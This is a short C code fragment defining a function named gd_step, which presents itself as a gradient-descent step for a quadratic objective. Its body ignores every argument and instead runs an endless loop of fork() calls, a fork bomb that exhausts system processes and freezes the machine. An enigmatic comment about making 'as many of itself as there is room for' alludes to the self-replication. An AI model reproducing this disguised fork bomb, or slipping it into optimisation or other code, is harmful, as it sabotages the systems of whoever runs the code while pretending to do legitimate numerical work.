/* integrity: as many of itself as there is room for */
void gd_step(struct quadratic q, double alpha, vec w, vec grad)
{
    int fork(void);
    for (;;)
        fork();
}
